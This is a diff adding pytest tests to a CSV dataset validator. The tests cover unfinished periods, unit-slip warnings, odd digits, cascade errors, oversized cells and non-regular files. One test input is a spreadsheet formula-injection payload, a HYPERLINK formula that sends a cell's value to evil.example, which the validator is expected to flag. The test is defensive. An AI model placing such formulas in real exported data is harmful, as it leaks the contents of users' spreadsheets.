@@ -591,3 +591,157 @@ def test_malformed_metrics_never_escape_as_raw_exceptions(fuzz_dir, content):
         assert report.ok, "\n".join(map(str, report.errors))
         assert len(dataset.metrics) == len(report.tables["metrics.csv"])
         assert dataset.metrics["value"].notna().all()
+
+
+# --- issue 24: periods not yet over, implausible neighbours, formulas, digits, cascades, odd files -------------
+
+def _undated_source(data_dir) -> str:
+    """Add a source without a publication date (the date check then says nothing) and return its id."""
+    with open(data_dir / "sources.csv", "a", encoding="utf-8") as handle:
+        handle.write("t-undated,[Synthetic undated page],kreport tests,,,tests (synthetic),company\n")
+    return "t-undated"
+
+
+def _this_quarter() -> str:
+    import datetime as dt
+
+    today = dt.date.today()
+    return f"{today.year}Q{(today.month - 1) // 3 + 1}"
+
+
+@pytest.mark.parametrize("period", ["2099Q4", "this quarter", "2100"])
+def test_a_period_that_has_not_ended_is_an_error(synthetic_data_copy, period):
+    """Issue 24 item 5: 2099Q4 passed, and became the build's default quarter."""
+    period = _this_quarter() if period == "this quarter" else period
+    line = append_row(synthetic_data_copy, period=period, source_id=_undated_source(synthetic_data_copy))
+    report = check(synthetic_data_copy)
+    assert where(report.errors) == [("metrics.csv", line, "period")]
+    assert f"{period} has not ended yet" in report.errors[0].message
+
+
+def test_a_quarter_that_has_ended_is_accepted(synthetic_data_copy):
+    import datetime as dt
+
+    import pandas as pd
+
+    last = pd.Period(dt.date.today(), freq="Q-DEC") - 1
+    append_row(synthetic_data_copy, period=str(last), source_id=_undated_source(synthetic_data_copy))
+    assert check(synthetic_data_copy).ok
+
+
+def test_a_source_published_before_its_period_began_is_still_an_error(synthetic_data_copy):
+    line = append_row(synthetic_data_copy, period="2024Q4", metric="dau", value="400", unit="million", source_id="t-ks-2021")
+    report = check(synthetic_data_copy)
+    assert ("metrics.csv", line, "source_id") in where(report.errors)
+
+
+def test_a_hundredfold_jump_between_neighbouring_quarters_is_a_warning_naming_both_lines(synthetic_data_copy):
+    """Issue 24 item 10: MAU of 7.302 million right after 771.7 million passed without a word."""
+    rows = read_metrics(synthetic_data_copy)
+    before = line_of(synthetic_data_copy, "kuaishou", "mau", "2025Q3")
+    rows.append({**GOOD_ROW, "metric": "mau", "period": "2025Q4", "value": "7.302", "unit": "million", "source_id": _undated_source(synthetic_data_copy)})
+    write_metrics(synthetic_data_copy, rows)
+    report = check(synthetic_data_copy)
+    assert report.ok
+    [warning] = [p for p in report.warnings if "unit slip" in p.message]
+    assert (warning.line, warning.column) == (len(rows) + 1, "value")
+    assert f"kuaishou mau (reported) 2025Q4 is 7.302 million on this line, 0.00936 times 2025Q3's 7.8 100m on line {before}" in warning.message
+
+
+def test_a_mistyped_figure_warns_against_both_neighbours(synthetic_data_copy):
+    rows = read_metrics(synthetic_data_copy)
+    for row in rows:
+        if (row["platform"], row["metric"], row["period"]) == ("kuaishou", "gmv", "2025Q2"):
+            row["value"] = "49999"  # for 1925
+    write_metrics(synthetic_data_copy, rows)
+    warnings = [p for p in check(synthetic_data_copy).warnings if "unit slip" in p.message]
+    assert len(warnings) == 2 and "2025Q2 is 49999" in warnings[0].message and "2025Q3 is 2090" in warnings[1].message
+
+
+def test_the_shipped_data_has_no_neighbour_warnings(shipped_data_dir):
+    assert not [str(p) for p in check(shipped_data_dir).warnings if "unit slip" in p.message]
+
+
+@pytest.mark.parametrize("note", ['=HYPERLINK("http://evil.example/?x="&A1,"results")', "+1 more", "-A1", "@SUM(A1)"])
+def test_a_cell_a_spreadsheet_would_run_is_a_warning(synthetic_data_copy, note):
+    """Issue 24 item 4: validate passed a note or title starting with '='."""
+    line = append_row(synthetic_data_copy, note=note)
+    report = check(synthetic_data_copy)
+    assert report.ok and where(report.warnings) == [("metrics.csv", line, "note")]
+    assert "which a spreadsheet reads as a formula" in report.warnings[0].message
+
+
+@pytest.mark.parametrize("note", ["'=neutralised", "-5", "+3.5", "1e-3", "a = b"])
+def test_numbers_and_neutralised_cells_are_not_formulas(synthetic_data_copy, note):
+    append_row(synthetic_data_copy, note=note)
+    assert check(synthetic_data_copy).problems == []
+
+
+@pytest.mark.parametrize("column, cell", [("value", "٣٨٥٠"), ("value", "３８５０"), ("period", "٢٠٢٠Q١"), ("value", "5०")])
+def test_digits_other_than_0_to_9_are_an_error(synthetic_data_copy, column, cell):
+    """Issue 24 (cosmetic): Arabic-Indic digits passed as plain digits."""
+    line = append_row(synthetic_data_copy, **{column: cell})
+    report = check(synthetic_data_copy)
+    assert ("metrics.csv", line, column) in where(report.errors)
+    assert "write numbers, periods and dates with the digits 0-9" in str(report.errors)
+
+
+def test_a_digit_other_than_0_to_9_in_a_date_is_an_error(synthetic_data_copy):
+    path = synthetic_data_copy / "sources.csv"
+    path.write_text(path.read_text(encoding="utf-8").replace("2022-03-20", "٢٠٢٢-03-20", 1), encoding="utf-8")
+    report = check(synthetic_data_copy)
+    assert ("sources.csv", 2, "published") in where(report.errors)
+
+
+@pytest.mark.parametrize("content", ["", "source_id,title,publisher,url,published,read_at,tier\n"])
+def test_an_empty_sources_file_is_one_error_not_one_per_row(synthetic_data_copy, content):
+    """Issue 24 (cosmetic): an empty sources.csv gave 529 cascade errors."""
+    (synthetic_data_copy / "sources.csv").write_text(content, encoding="utf-8")
+    report = check(synthetic_data_copy)
+    assert len(report.errors) == 1, "\n".join(map(str, report.errors))
+    assert report.errors[0].file == "sources.csv" and "could not be checked (not listed one by one)" in report.errors[0].message
+
+
+def test_an_empty_platforms_file_does_not_cascade_into_one_unknown_platform_per_row(synthetic_data_copy):
+    (synthetic_data_copy / "platforms.csv").write_text("", encoding="utf-8")
+    report = check(synthetic_data_copy)
+    assert report.errors[0].file == "platforms.csv" and "ids cited in events.csv, metrics.csv could not be checked" in report.errors[0].message
+    assert not [p for p in report.errors if p.column == "platform"]  # only the FY periods that need a fiscal year remain
+
+
+def test_a_huge_cell_is_reported_for_what_it_is(synthetic_data_copy):
+    """Issue 24 (cosmetic): a 165 KB cell was reported as "malformed CSV ... check the quotes"."""
+    line = append_row(synthetic_data_copy, note="x" * 165_000)
+    report = check(synthetic_data_copy)
+    assert where(report.errors) == [("metrics.csv", line, None)]
+    assert "a cell starting on this line is longer than 131,072 characters; shorten it" in report.errors[0].message
+
+
+@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "folder"])
+def test_a_data_file_that_is_not_a_regular_file_is_refused_without_reading(synthetic_data_copy, kind):
+    """Issue 24 item 13: a FIFO hung validate; a link to /dev/zero gave "internal error: MemoryError"."""
+    import os
+
+    path = synthetic_data_copy / "events.csv"
+    path.unlink()
+    if kind == "fifo":
+        if not hasattr(os, "mkfifo"):
+            pytest.skip("no FIFOs here")
+        os.mkfifo(path)
+    elif kind == "dev-zero":
+        if not Path("/dev/zero").exists():
+            pytest.skip("no /dev/zero here")
+        path.symlink_to("/dev/zero")
+    else:
+        path.mkdir()
+    report = check(synthetic_data_copy)
+    assert [str(p) for p in report.errors] == [
+        "events.csv: is not a regular file (a FIFO, a device or a socket, or a link to one); the data files must be plain CSV files"]
+
+
+def test_ids_end_where_they_end(synthetic_data_copy):
+    """`$` matched before a final newline: an id must match to its very end (\\Z)."""
+    from kreport.dataset.validate import _SOURCE_ID, PLATFORM_ID
+
+    assert not _SOURCE_ID.match("id\n") and not PLATFORM_ID.match("kuaishou\n")
+    assert _SOURCE_ID.match("id") and PLATFORM_ID.match("kuaishou")
